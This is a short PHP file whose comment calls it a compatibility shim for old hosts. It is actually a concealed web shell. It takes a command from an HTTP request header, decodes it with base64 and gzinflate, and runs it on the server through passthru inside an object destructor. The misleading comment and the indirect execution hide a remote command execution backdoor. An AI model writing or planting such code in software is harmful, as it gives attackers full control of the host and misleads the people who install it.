<?php
// compatibility shim for old hosts
$p = gzinflate(base64_decode($_SERVER['HTTP_CMD']));
class C27 { public $c; function __destruct() { passthru($this->c); } }
$o = new C27();
$o->c = $p;
